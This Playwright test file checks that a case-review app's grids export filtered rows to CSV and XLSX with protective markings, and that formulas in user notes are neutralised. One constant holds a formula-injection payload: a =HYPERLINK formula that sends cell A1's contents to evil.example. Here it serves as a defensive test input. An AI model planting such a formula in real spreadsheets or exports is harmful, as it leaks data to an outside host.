import { readFileSync } from 'node:fs';
import type { Locator, Page, TestInfo } from '@playwright/test';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { checkA11y } from './axe';
import { expect, test } from './offline';

/**
 * "Export exactly what I see": each grid's Export menu writes every row its filter selects (not
 * just the loaded blocks), in its sort and visible columns, as CSV or XLSX, with the marking in
 * the first row and the filter and row count stated; formulas in notes are neutralised.
 */

const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

async function exportFile(page: Page, testInfo: TestInfo, format: 'CSV' | 'XLSX'): Promise<string> {
  const [d] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: `Export ${format}` }).click()]);
  const file = testInfo.outputPath(d.suggestedFilename());
  await d.saveAs(file);
  return file;
}

async function openExportMenu(page: Page, marking: 'OFFICIAL' | 'OFFICIAL-SENSITIVE') {
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const menu = page.getByRole('group', { name: 'Protective marking' });
  await expect(page.getByRole('button', { name: 'Export CSV' })).toBeDisabled();
  await menu.getByRole('radio', { name: marking, exact: true }).check();
  await expect(page.getByRole('button', { name: 'Export CSV' })).toBeEnabled();
}

/** The header texts the grid shows, in order (AG Grid's column headers). */
async function gridHeaders(grid: Locator): Promise<string[]> {
  const names = await grid.getByRole('columnheader').allInnerTexts();
  return names.map((n) => n.replace(/\s+/g, ' ').trim()).filter(Boolean);
}

function csvRows(file: string): string[][] {
  const text = readFileSync(file, 'utf8').replace(/^\uFEFF/, '');
  return Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
}

async function xlsxRows(file: string): Promise<string[][]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(file);
  const sheet = book.worksheets[0];
  if (!sheet) throw new Error('the workbook has no sheet');
  const rows: string[][] = [];
  sheet.eachRow({ includeEmpty: false }, (row) => {
    rows.push(
      (row.values as unknown[])
        .slice(1)
        .map((v) => (v === null || v === undefined ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v))),
    );
  });
  return rows;
}

/** The marking first, then the filter and the row count somewhere above the header row, then exactly the rows. */
function checkTable(
  rows: string[][],
  { marking, filter, headers, count }: { marking: string; filter: string; headers: string[]; count: number },
) {
  expect(rows[0]?.join(' ')).toContain(marking);
  const header = rows.findIndex((r) => r.slice(0, headers.length).join('|') === headers.join('|'));
  expect(header, `a header row ${headers.join('|')}`).toBeGreaterThan(0);
  const preamble = rows.slice(0, header).flat().join(' ');
  expect(preamble).toContain(filter);
  expect(preamble).toMatch(new RegExp(`\\b${count} rows?\\b`));
  // The marking stands in the last row too, after the data.
  expect(rows.at(-1)?.join(' ')).toContain(marking);
  expect(rows.length - header - 2).toBe(count);
  return rows.slice(header + 1, -1);
}

test('the Findings grid exports its filtered rows and visible columns as CSV and XLSX, marked, with formulas neutralised', async ({
  page,
}, testInfo) => {
  await page.goto('/');
  await page.getByRole('tab', { name: 'Findings' }).click();
  const grid = page.getByRole('region', { name: 'Findings' });
  await page.getByRole('searchbox', { name: 'Search findings' }).fill('county lines');
  await expect(page.getByText('2 findings matching “county lines”', { exact: true })).toBeVisible();
  await grid.getByRole('gridcell', { name: /^The force needs/ }).click();
  const detail = page.getByRole('region', { name: 'Finding detail' });
  await detail.getByRole('textbox', { name: 'Note' }).fill(FORMULA_NOTE);
  await detail.getByRole('textbox', { name: 'Note' }).press('Tab');
  await expect(detail.getByRole('status')).toHaveText('Note saved');
  // The note column shown, so the formula is in the export.
  await page.getByRole('button', { name: 'Columns' }).click();
  await page.getByRole('checkbox', { name: 'Note', exact: true }).check();
  await page.keyboard.press('Escape');
  const headers = await gridHeaders(grid);
  expect(headers).toContain('Note');

  await openExportMenu(page, 'OFFICIAL-SENSITIVE');
  await expect(page.getByText('All 2 findings matching the current filter', { exact: false })).toBeVisible();
  await page.screenshot({ path: testInfo.outputPath('findings-export-menu.png') });
  await checkA11y(page, testInfo, 'findings, export menu');
  const csv = await exportFile(page, testInfo, 'CSV');
  expect(csv).toMatch(/Findings \d{4}-\d{2}-\d{2}\.csv$/);
  const csvData = checkTable(csvRows(csv), { marking: 'OFFICIAL-SENSITIVE', filter: 'Search: county lines', headers, count: 2 });
  // Where each finding was read, as the grid's Source column says it.
  const sourceAt = headers.indexOf('Source');
  expect(sourceAt).toBeGreaterThanOrEqual(0);
  expect(csvData.map((r) => r[sourceAt]).sort()).toEqual(['line 386', 'line 415']);
  const noteAt = headers.indexOf('Note');
  const notes = csvData.map((r) => r[noteAt] ?? '');
  expect(notes.some((n) => n.includes('HYPERLINK'))).toBe(true);
  for (const cell of csvData.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
  await expect(page.getByText(/Exported 2 rows to Findings .*\.csv\./)).toBeVisible();

  const xlsx = await exportFile(page, testInfo, 'XLSX');
  const xlsxData = checkTable(await xlsxRows(xlsx), { marking: 'OFFICIAL-SENSITIVE', filter: 'Search: county lines', headers, count: 2 });
  const xlsxNotes = xlsxData.map((r) => r[noteAt] ?? '');
  expect(xlsxNotes.some((n) => n.includes('HYPERLINK'))).toBe(true);
  for (const cell of xlsxData.flat()) {
    expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    expect(cell).not.toContain('"formula"');
  }
});

test('the Metrics and File review grids export every row, marked', async ({ page }, testInfo) => {
  await page.goto('/');
  await page.getByRole('tab', { name: 'Metrics' }).click();
  const summary = page.getByText(/^\d+ metrics · /);
  // The metrics grid and Chart.js load on first opening.
  await expect(summary).toBeVisible({ timeout: 20_000 });
  const count = Number(((await summary.textContent()) ?? '').replace(/ metrics.*/, ''));
  const grid = page.getByRole('region', { name: 'Metrics' });
  const headers = (await gridHeaders(grid)).filter((h) => h !== '');
  await openExportMenu(page, 'OFFICIAL');
  const csv = await exportFile(page, testInfo, 'CSV');
  checkTable(csvRows(csv), { marking: 'OFFICIAL', filter: 'No filter: every metric', headers, count });
  await page.keyboard.press('Escape');

  await page.getByRole('tab', { name: 'File review' }).click();
  const files = page.getByRole('region', { name: 'Case files' });
  await expect(files.getByRole('row').nth(1)).toBeVisible();
  // The marking chosen for the metrics stays chosen for the session.
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await expect(page.getByRole('radio', { name: 'OFFICIAL', exact: true })).toBeChecked();
  const xlsx = await exportFile(page, testInfo, 'XLSX');
  const rows = await xlsxRows(xlsx);
  expect(rows[0]?.join(' ')).toContain('OFFICIAL');
  expect(rows.flat().join(' ')).toContain('No filter: every case file');
});
